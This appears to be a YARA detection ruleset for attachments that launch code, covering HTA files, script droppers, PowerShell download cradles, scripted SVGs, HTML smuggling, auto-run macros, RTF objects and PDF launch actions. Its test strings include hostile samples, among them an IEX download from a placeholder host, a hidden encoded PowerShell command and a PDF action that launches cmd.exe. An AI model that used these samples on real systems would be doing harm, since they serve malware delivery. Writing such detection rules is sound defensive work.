// Scripts and documents that start something. Most look at files only, not at the text of a message: people may
// write about these things. How to write rules: docs/rulesets.md

rule hta_application
{
    meta:
        category = "executable"
        description = "An HTML application, which runs with all rights of the user"
        example_filename = "invoice.html"
        must_match = "<html><head><HTA:APPLICATION id='x'></head></html>"
        must_not_match = "<html><head><title>HTA applications</title></head></html>"
    strings:
        $tag = "<hta:application" nocase
    condition:
        $tag and filename != ""
}

rule script_host_dropper
{
    meta:
        category = "malware"
        description = "A script that can fetch or write a file and start it"
        example_filename = "invoice.txt"
        must_match_1 = "var s = new ActiveXObject('WScript.Shell'); var h = new ActiveXObject('MSXML2.XMLHTTP'); s.Run('a.exe');"
        must_match_2 = "Set a = CreateObject(\"WScript.Shell\")\r\nSet b = CreateObject(\"ADODB.Stream\")\r\nb.SaveToFile p\r\na.Run p"
        must_not_match_1 = "Set a = CreateObject(\"WScript.Shell\")\r\na.Popup \"Good morning\""
        must_not_match_2 = "In this lesson we write a web page with JavaScript: document.write('Run!')"
    strings:
        $shell_1 = "WScript.Shell" nocase
        $shell_2 = "Shell.Application" nocase
        $fetch_1 = "MSXML2.XMLHTTP" nocase
        $fetch_2 = "MSXML2.ServerXMLHTTP" nocase
        $fetch_3 = "WinHttp.WinHttpRequest" nocase
        $fetch_4 = "ADODB.Stream" nocase
        $fetch_5 = "Microsoft.XMLHTTP" nocase
    condition:
        filename != "" and any of ($shell_*) and any of ($fetch_*)
}

rule powershell_download
{
    meta:
        category = "malware"
        description = "PowerShell that fetches code and runs it, or that hides its command"
        example_filename = "update.txt"
        must_match_1 = "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://host.example/a')\""
        must_match_2 = "powershell.exe -NoP -WindowStyle Hidden -EncodedCommand SQBFAFgAIAA="
        must_not_match = "PowerShell is a shell by Microsoft. Get-ChildItem lists a folder."
    strings:
        $shell = "powershell" nocase
        $hidden = " hidden " nocase
        $encoded = /-enc(odedcommand)?\s+[a-z0-9+\/=]{12}/ nocase
        $fetch_1 = ".DownloadString(" nocase
        $fetch_2 = ".DownloadFile(" nocase
        $fetch_3 = "Invoke-WebRequest" nocase
        $run_1 = /\biex\s*[("$]/ nocase
        $run_2 = "Invoke-Expression" nocase
        $run_3 = "Start-Process" nocase
    condition:
        filename != "" and $shell and (($hidden and $encoded) or (any of ($fetch_*) and any of ($run_*)))
}

rule svg_with_script
{
    meta:
        category = "active-content"
        description = "A picture in SVG that carries a script"
        example_filename = "logo.svg"
        example_filetype = "image/svg+xml"
        must_match_1 = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
        must_match_2 = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"
        must_match_3 = "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>"
        must_match_4 = "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><text>x</text></a></svg>"
        must_match_5 = "<svg xmlns='http://www.w3.org/2000/svg'><a><set attributeName='href' to='javascript:alert(1)'/></a></svg>"
        must_not_match = "<svg xmlns='http://www.w3.org/2000/svg'><circle r='5'/></svg>"
        must_not_match_2 = "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://www.school.example/'><text>javascript: a course</text></a></svg>"
    strings:
        $svg = /<([a-z]{1,8}:)?svg/ ascii wide
        $script = /<([a-z]{1,8}:)?script/ ascii wide
        $event = /<([a-z]{1,8}:)?svg[^<>]{0,400}\son[a-z]{3,12}\s*=/ ascii wide
        $address = /(href|to|from|values)\s*=\s*["'][^"']{0,40}javascript:/ nocase ascii wide
        $foreign = "<foreignObject" ascii wide
        $frame = "<iframe" ascii wide
        $embed = "<embed" ascii wide
    condition:
        $svg and (extension == "svg" or filetype == "image/svg+xml")
        and ($script or $event or $address or ($foreign and ($frame or $embed)))
}

rule html_smuggling
{
    meta:
        category = "active-content"
        description = "An HTML file that builds a file on the reader's computer and hands it out as a download"
        example_filename = "invoice.html"
        example_filetype = "text/html"
        must_match = "<html><script>var b = new Blob([Uint8Array.from(atob(d), f)]); a.href = URL.createObjectURL(b); a.download = 'i.zip'; a.click();</script>"
        must_not_match = "<html><script>document.getElementById('menu').click();</script></html>"
    strings:
        // Names of JavaScript, which tells small letters from capitals.
        $decode_1 = "atob("
        $decode_2 = "Uint8Array"
        $decode_3 = "fromCharCode"
        $hand_1 = "createObjectURL"
        $hand_2 = "msSaveOrOpenBlob"
        $hand_3 = "msSaveBlob"
    condition:
        filename != "" and any of ($decode_*) and any of ($hand_*)
        and (filetype == "text/html" or extension == "html" or extension == "htm" or extension == "svg")
}

rule ole_macro_that_starts_itself
{
    meta:
        category = "macro"
        description = "An Office 97-2003 document with macros that run when it is opened or closed"
        must_match_hex = "d0cf11e0a1b11ae1000000000000000000000000005f005600420041005f00500052004f004a0045004300540000000000446f63756d656e745f4f70656e"
        must_not_match_hex = "d0cf11e0a1b11ae1000000000000000000000000005f005600420041005f00500052004f004a00450043005400"
    strings:
        $project = "_VBA_PROJECT" wide
        $start_1 = "AutoOpen" nocase
        $start_2 = "Auto_Open" nocase
        $start_3 = "AutoExec" nocase
        $start_4 = "AutoClose" nocase
        $start_5 = "Auto_Close" nocase
        $start_6 = "Document_Open" nocase
        $start_7 = "Document_Close" nocase
        $start_8 = "Workbook_Open" nocase
        $start_9 = "Workbook_Activate" nocase
        $start_10 = "Workbook_Close" nocase
        $start_11 = "DocumentOpen" nocase
    condition:
        uint32be(0) == 0xD0CF11E0 and $project and any of ($start_*)
}

rule rtf_embedded_object
{
    meta:
        category = "active-content"
        description = "Rich text with an embedded object that updates itself or is a package"
        must_match = "{\\rtf1 {\\object\\objemb\\objupdate {\\*\\objdata 0105000002000000}}}"
        must_not_match = "{\\rtf1 {\\b Dear all}}"
    strings:
        $object = "\\objdata"
        $update = "\\objupdate"
        $package = "5061636b61676500" nocase
    condition:
        uint32be(0) == 0x7B5C7274 and $object and ($update or $package)
}

rule pdf_that_starts_something
{
    meta:
        category = "active-content"
        description = "A PDF that starts a program or carries a program file"
        must_match = "%PDF-1.7\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >>"
        must_not_match = "%PDF-1.7\n1 0 obj << /OpenAction [3 0 R /FitH null] >>"
    strings:
        $head = "%PDF-"
        $launch = /\/S\s{0,8}\/Launch\b/
    condition:
        $head in (0..1024) and $launch
}
